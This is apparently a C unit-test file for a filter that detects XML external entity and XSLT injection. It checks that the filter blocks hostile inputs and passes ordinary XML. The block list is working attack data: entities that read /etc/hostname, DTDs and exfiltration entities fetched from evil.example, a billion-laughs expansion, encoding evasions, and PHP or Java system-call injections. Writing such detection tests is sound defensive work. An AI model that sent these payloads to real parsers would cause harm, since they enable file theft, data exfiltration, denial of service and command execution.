/** XML that fetches, includes or multiplies, and XML that does not. */
#include "tests/unit/filter_alone.h"

static void blocks_what_makes_a_reader_fetch_or_multiply(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"file", PEN_STR("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM "
                         "\"file:///etc/hostname\">]><a>&x;</a>")},
        {"public identifier",
         PEN_STR(
             "<!DOCTYPE a [<!ENTITY x PUBLIC \"-//A//B\" \"http://evil.example/x\">]><a>&x;</a>")},
        {"parameter entity",
         PEN_STR("<!DOCTYPE a [ <!ENTITY % p SYSTEM \"http://evil.example/a.dtd\"> %p; ]><a/>")},
        {"single quotes and line breaks",
         PEN_STR("<!DOCTYPE a\n[\n<!ENTITY\nx\nSYSTEM\n'expect://id'>\n]>")},
        {"billion laughs",
         PEN_STR("<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>")},
        {"an entity in an entity",
         PEN_STR("<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'http://evil.example/?%c;'>\">")},
        {"a DTD of one's own", PEN_STR("<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>")},
        {"in a SOAP body", PEN_STR("<soap:Body><x><![CDATA[<!DOCTYPE d [<!ENTITY % e SYSTEM "
                                   "\"http://evil.example/\"> %e;]><d/>]]></x></soap:Body>")},
        {"XInclude", PEN_STR("<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
                             "parse=\"text\" href=\"file:///etc/hostname\"/></a>")},
        {"script in a stylesheet",
         PEN_STR(
             "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
             "xmlns:php=\"http://php.net/xsl\"/>")},
        {"markup in pieces", PEN_STR("<![CDATA[<]]>script<![CDATA[>]]>")},
        {"UTF-7", PEN_STR("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE")},
        {"lower case", PEN_STR("<!doctype a [<!entity x system \"file:///etc/hostname\">]>")},
        {"a notation", PEN_STR("<!DOCTYPE a [<!NOTATION x SYSTEM \"http://evil.example\">]><a/>")},
        {"a stylesheet that is named",
         PEN_STR("<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?><a/>")},
        {"percent-encoded",
         PEN_STR("%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file:///x%22%3E%5D%3E")},
        {"PHP in an instruction", PEN_STR("<xsl:value-of select=\"php:function('system','id')\" "
                                          "xmlns:php=\"http://php.net/xsl\"/>")},
        {"Java in an instruction",
         PEN_STR("<xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\" "
                 "xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"/>")},
    };
    filter_case_blocks(&it, "xxe", rows, PEN_COUNT_OF(rows));
}

static void stays_silent_on_ordinary_documents(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"HTML", PEN_STR("<!DOCTYPE html><html><body>hello</body></html>")},
        {"HTML of old", PEN_STR("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
                                "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>")},
        {"SVG", PEN_STR("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
                        "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>")},
        {"property list", PEN_STR("<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
                                  "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>")},
        {"WSDL", PEN_STR("<definitions xmlns=\"http://schemas.xmlsoap.org/wsdl/\" "
                         "xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\"/>")},
        {"a comment", PEN_STR("<!-- nothing to see --><a/>")},
        {"CDATA with text", PEN_STR("<a><![CDATA[if (a < b && c > d) return;]]></a>")},
        {"a declaration", PEN_STR("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>")},
        {"talk about entities",
         PEN_STR("The <!ENTITY declaration and <!DOCTYPE are refused by the reader.")},
        {"a style of one's own", PEN_STR("<?xml-stylesheet type=\"text/css\" href=\"a.css\"?>")},
        {"where a schema is",
         PEN_STR("<project xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 "
                 "http://maven.apache.org/xsd/maven-4.0.0.xsd\"/>")},
        {"an exclamation", PEN_STR("Wow <! that was close")},
        {"an instruction", PEN_STR("<xsl:value-of select=\"title\"/>")},
        {"a namespace in a sentence", PEN_STR("bind http://php.net/xsl to the prefix php")},
    };
    filter_case_passes(&it, "xxe", rows, PEN_COUNT_OF(rows));
}

/* .NET's StringWriter declares "utf-16"; a string is decoded already, a file's bytes are not. */
static void asks_for_the_encoding_of_bytes_only(void **state)
{
    (void)state;
    const struct {
        const char *why;
        struct pen_event_input input;
        enum pen_verdict verdict;
    } rows[] = {
        {"a string of JSON",
         {.body = PEN_STR("[\"<?xml version='1.0' encoding='utf-16'?><a/>\"]"),
          .body_kind = PEN_BODY_JSON},
         PEN_PASS},
        {"a field of a form",
         {.body = PEN_STR("a=%3C%3Fxml+version%3D'1.0'+encoding%3D'utf-16'%3F%3E%3Ca/%3E"),
          .body_kind = PEN_BODY_FORM},
         PEN_PASS},
        {"UTF-7 hides in a string, too",
         {.body = PEN_STR("[\"<?xml version='1.0' encoding='utf-7'?><a/>\"]"),
          .body_kind = PEN_BODY_JSON},
         PEN_BLOCK},
        {"EBCDIC",
         {.body = PEN_STR("[\"<?xml version='1.0' encoding='ibm037'?><a/>\"]"),
          .body_kind = PEN_BODY_JSON},
         PEN_BLOCK},
        {"a body of text",
         {.body = PEN_STR("<?xml version='1.0' encoding='utf-16'?><a/>"),
          .body_kind = PEN_BODY_TEXT},
         PEN_BLOCK},
        {"base64 in a string",
         {.body = PEN_STR("[\"PD94bWwgdmVyc2lvbj0nMS4wJyBlbmNvZGluZz0ndXRmLTE2Jz8+PGEvPg==\"]"),
          .body_kind = PEN_BODY_JSON},
         PEN_BLOCK},
    };
    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
        const struct pen_judgement judgement = filter_case_event(&it, &rows[i].input);
        if (judgement.verdict != rows[i].verdict) fail_msg("%s: %s", rows[i].why, judgement.reason);
    }
}

static void judges_what_a_document_binds(void **state)
{
    (void)state;
    const struct {
        const char *why;
        enum pen_verdict verdict;
        struct pen_str body;
    } rows[] = {
        {"functions of PHP", PEN_BLOCK,
         PEN_STR("<x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" "
                 "xmlns:php=\"http://php.net/xsl\"/>")},
        {"elements that write", PEN_BLOCK,
         PEN_STR("<x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" "
                 "xmlns:e=\"http://exslt.org/common\" extension-element-prefixes=\"e\"/>")},
        {"another document", PEN_BLOCK,
         PEN_STR("<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"b\"/></a>")},
        {"a probe", PEN_BLOCK, PEN_STR("<a select=\"system-property('xsl:vendor')\"/>")},
        {"a plain stylesheet", PEN_FLAG,
         PEN_STR("<x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\"/>")},
        {"an office document", PEN_PASS,
         PEN_STR("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml\"/>")},
    };
    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
        const struct pen_event_input input = {.body = rows[i].body, .body_kind = PEN_BODY_XML};
        if (filter_case_event(&it, &input).verdict != rows[i].verdict) fail_msg("%s", rows[i].why);
    }
}

static void weighs_more_with_the_sink(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"a type of document", PEN_STR("<!DOCTYPE a><a/>")},
        {"markup in CDATA", PEN_STR("<![CDATA[<test></test>]]>")},
    };
    filter_case_needs_sink("xxe", PEN_S("xml"), rows, PEN_COUNT_OF(rows));
}

static void is_linear_where_it_could_be_quadratic(void **state)
{
    (void)state;
    static const struct pen_str pieces[] = {
        PEN_STR("<!DOCTYPE a"), PEN_STR("<!ENTITY a \"x"),        PEN_STR("<?xml encoding="),
        PEN_STR("<![CDATA[<"),  PEN_STR("<!NOTATION x SYSTEM '"), PEN_STR("<?xml-stylesheet ")};
    filter_case_endures(&it, pieces, PEN_COUNT_OF(pieces));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(blocks_what_makes_a_reader_fetch_or_multiply),
        cmocka_unit_test(stays_silent_on_ordinary_documents),
        cmocka_unit_test(asks_for_the_encoding_of_bytes_only),
        cmocka_unit_test(judges_what_a_document_binds),
        cmocka_unit_test(weighs_more_with_the_sink),
        cmocka_unit_test(is_linear_where_it_could_be_quadratic),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
